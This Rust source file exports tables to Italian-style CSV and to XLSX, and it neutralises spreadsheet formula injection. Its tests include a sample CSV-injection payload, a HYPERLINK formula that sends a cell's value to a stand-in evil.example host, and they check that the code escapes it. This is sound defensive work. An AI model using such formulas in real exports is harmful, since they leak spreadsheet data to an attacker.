//! Exports of any list: CSV in the Italian Excel dialect (`;`, UTF-8 BOM, comma decimals) and XLSX.

use axum::http::header;
use axum::response::{IntoResponse, Response};
use chrono::NaiveDate;

use crate::kit::error::{AppError, AppResult};

#[derive(Debug, Clone)]
pub enum Cell {
    Text(String),
    Int(i64),
    Dec(f64, usize),
    Date(NaiveDate),
    Bool(bool),
    Empty,
}

impl From<String> for Cell {
    fn from(s: String) -> Self {
        Cell::Text(s)
    }
}
impl From<&str> for Cell {
    fn from(s: &str) -> Self {
        Cell::Text(s.to_owned())
    }
}
impl From<Option<String>> for Cell {
    fn from(s: Option<String>) -> Self {
        s.map(Cell::Text).unwrap_or(Cell::Empty)
    }
}
impl From<Option<i64>> for Cell {
    fn from(v: Option<i64>) -> Self {
        v.map(Cell::Int).unwrap_or(Cell::Empty)
    }
}
impl From<Option<NaiveDate>> for Cell {
    fn from(v: Option<NaiveDate>) -> Self {
        v.map(Cell::Date).unwrap_or(Cell::Empty)
    }
}
impl From<bool> for Cell {
    fn from(v: bool) -> Self {
        Cell::Bool(v)
    }
}

/// Whether a text cell would be read as a formula by a spreadsheet: it starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return (OWASP, "CSV injection"). Such text — a name a referent
/// typed as `=HYPERLINK(…)` — is neutralised on export: in CSV with a leading apostrophe, in
/// XLSX with Excel's quote prefix (the value stays as typed, marked as text). Numbers, dates and
/// money are typed cells and stay numbers.
pub fn sembra_formula(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// The text of a cell as the CSV export writes it.
fn testo_sicuro(s: &str) -> std::borrow::Cow<'_, str> {
    if sembra_formula(s) {
        format!("'{s}").into()
    } else {
        s.into()
    }
}

/// Undoes [`testo_sicuro`] for a file exported by Piazza and imported back: the apostrophe
/// added before text that looks like a formula is dropped.
pub fn togli_neutralizzazione(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if sembra_formula(rest) => rest,
        _ => s,
    }
}

/// A table to export: column headers and rows.
#[derive(Debug, Default)]
pub struct Table {
    pub headers: Vec<&'static str>,
    pub rows: Vec<Vec<Cell>>,
}

impl Table {
    pub fn new(headers: &[&'static str]) -> Self {
        Self {
            headers: headers.to_vec(),
            rows: Vec::new(),
        }
    }

    /// CSV as Excel opens it in Italy: BOM, `;`, decimal comma, dates dd/mm/yyyy.
    pub fn to_csv(&self) -> Vec<u8> {
        let mut out = b"\xEF\xBB\xBF".to_vec();
        {
            let mut w = csv::WriterBuilder::new()
                .delimiter(b';')
                .terminator(csv::Terminator::CRLF)
                .from_writer(&mut out);
            let _ = w.write_record(&self.headers);
            for row in &self.rows {
                let fields: Vec<String> = row
                    .iter()
                    .map(|c| match c {
                        Cell::Text(s) => testo_sicuro(s).into_owned(),
                        Cell::Int(n) => n.to_string(),
                        Cell::Dec(x, p) => format!("{x:.p$}").replace('.', ","),
                        Cell::Date(d) => d.format("%d/%m/%Y").to_string(),
                        Cell::Bool(b) => if *b { "sì" } else { "no" }.to_owned(),
                        Cell::Empty => String::new(),
                    })
                    .collect();
                let _ = w.write_record(&fields);
            }
            let _ = w.flush();
        }
        out
    }

    pub fn to_xlsx(&self, sheet: &str) -> AppResult<Vec<u8>> {
        xlsx(&[(sheet, self)])
    }

    fn write_sheet(&self, wb: &mut rust_xlsxwriter::Workbook, sheet: &str) -> AppResult<()> {
        use rust_xlsxwriter::Format;
        let err = |e: rust_xlsxwriter::XlsxError| AppError::causa("xlsx", e);
        let ws = wb.add_worksheet();
        ws.set_name(sheet).map_err(err)?;
        let bold = Format::new().set_bold();
        let date_fmt = Format::new().set_num_format("dd/mm/yyyy");
        let testo = Format::new().set_quote_prefix();
        for (c, h) in self.headers.iter().enumerate() {
            ws.write_string_with_format(0, c as u16, *h, &bold)
                .map_err(err)?;
        }
        for (r, row) in self.rows.iter().enumerate() {
            let r = (r + 1) as u32;
            for (c, cell) in row.iter().enumerate() {
                let c = c as u16;
                match cell {
                    Cell::Text(s) if sembra_formula(s) => {
                        ws.write_string_with_format(r, c, s, &testo).map_err(err)?;
                    }
                    Cell::Text(s) => {
                        ws.write_string(r, c, s).map_err(err)?;
                    }
                    Cell::Int(n) => {
                        ws.write_number(r, c, *n as f64).map_err(err)?;
                    }
                    Cell::Dec(x, _) => {
                        ws.write_number(r, c, *x).map_err(err)?;
                    }
                    Cell::Date(d) => {
                        let dt = rust_xlsxwriter::ExcelDateTime::from_ymd(
                            chrono::Datelike::year(d) as u16,
                            chrono::Datelike::month(d) as u8,
                            chrono::Datelike::day(d) as u8,
                        )
                        .map_err(err)?;
                        ws.write_datetime_with_format(r, c, &dt, &date_fmt)
                            .map_err(err)?;
                    }
                    Cell::Bool(b) => {
                        ws.write_string(r, c, if *b { "sì" } else { "no" })
                            .map_err(err)?;
                    }
                    Cell::Empty => {}
                }
            }
        }
        ws.autofilter(
            0,
            0,
            self.rows.len() as u32,
            self.headers.len().saturating_sub(1) as u16,
        )
        .map_err(err)?;
        ws.set_freeze_panes(1, 0).map_err(err)?;
        Ok(())
    }
}

/// A workbook with one sheet per table.
pub fn xlsx(sheets: &[(&str, &Table)]) -> AppResult<Vec<u8>> {
    let mut wb = rust_xlsxwriter::Workbook::new();
    for (name, t) in sheets {
        t.write_sheet(&mut wb, name)?;
    }
    wb.save_to_buffer().map_err(|e| AppError::causa("xlsx", e))
}

pub const XLSX_MIME: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// A download: the body with its type and file name.
pub fn attachment(body: Vec<u8>, content_type: &'static str, filename: &str) -> Response {
    (
        [
            (header::CONTENT_TYPE, content_type.to_owned()),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{filename}\""),
            ),
        ],
        body,
    )
        .into_response()
}

pub fn csv_response(table: &Table, filename: &str) -> Response {
    attachment(table.to_csv(), "text/csv; charset=utf-8", filename)
}

pub fn xlsx_response(table: &Table, sheet: &str, filename: &str) -> AppResult<Response> {
    Ok(attachment(table.to_xlsx(sheet)?, XLSX_MIME, filename))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_uses_the_italian_excel_dialect() {
        let mut t = Table::new(&["Nome", "Superficie", "Data"]);
        t.rows.push(vec![
            "Forlì; città".into(),
            Cell::Dec(1234.5, 2),
            Cell::Date(NaiveDate::from_ymd_opt(2024, 6, 9).unwrap()),
        ]);
        let s = String::from_utf8(t.to_csv()).unwrap();
        assert!(s.starts_with('\u{feff}'));
        assert_eq!(
            s.trim_start_matches('\u{feff}'),
            "Nome;Superficie;Data\r\n\"Forlì; città\";1234,50;09/06/2024\r\n"
        );
    }

    #[test]
    fn formulas_are_neutralised_numbers_are_not() {
        let mut t = Table::new(&["Nome", "Saldo", "Nota"]);
        t.rows.push(vec![
            r#"=HYPERLINK("http://evil.example/?"&A1,"Apri")"#.into(),
            Cell::Dec(-1234.5, 2),
            "@SUM(A1)".into(),
        ]);
        t.rows
            .push(vec!["+39 055".into(), Cell::Int(-3), "\tx".into()]);
        t.rows.push(vec!["-".into(), Cell::Empty, "Forlì".into()]);
        let s = String::from_utf8(t.to_csv()).unwrap();
        let righe: Vec<&str> = s.trim_start_matches('\u{feff}').split("\r\n").collect();
        assert_eq!(
            righe[1],
            r#""'=HYPERLINK(""http://evil.example/?""&A1,""Apri"")";-1234,50;'@SUM(A1)"#
        );
        assert_eq!(righe[2], "'+39 055;-3;'\tx");
        assert_eq!(righe[3], "'-;;Forlì");
        assert_eq!(togli_neutralizzazione("'=A1"), "=A1");
        assert_eq!(togli_neutralizzazione("'ciao"), "'ciao");
        // XLSX: the text cell carries the quote prefix in its style, the number stays a number.
        let x = t.to_xlsx("Foglio").unwrap();
        let mut z = zip::ZipArchive::new(std::io::Cursor::new(x)).unwrap();
        let mut stili = String::new();
        std::io::Read::read_to_string(&mut z.by_name("xl/styles.xml").unwrap(), &mut stili)
            .unwrap();
        assert!(stili.contains(r#"quotePrefix="1""#), "{stili}");
        let mut foglio = String::new();
        std::io::Read::read_to_string(
            &mut z.by_name("xl/worksheets/sheet1.xml").unwrap(),
            &mut foglio,
        )
        .unwrap();
        assert!(foglio.contains("<v>-1234.5</v>"), "{foglio}");
        assert!(!foglio.contains("<f>"), "{foglio}");
    }

    #[test]
    fn xlsx_is_a_zip() {
        let t = Table::new(&["A"]);
        let bytes = t.to_xlsx("Foglio").unwrap();
        assert_eq!(&bytes[..2], b"PK");
    }
}
